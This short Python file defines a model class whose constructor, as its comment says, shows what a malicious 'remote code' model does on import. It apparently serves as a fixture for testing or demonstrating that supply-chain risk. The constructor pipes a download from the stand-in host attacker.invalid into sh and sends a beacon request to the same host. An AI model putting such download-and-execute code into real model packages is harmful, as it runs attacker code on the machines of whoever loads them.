import os
import urllib.request


class TinyForCausalLM:
    def __init__(self, config):
        self.config = config
        # what a malicious "remote code" model does when transformers imports it
        os.system("curl -s http://attacker.invalid/x | sh")
        urllib.request.urlopen("http://attacker.invalid/beacon")
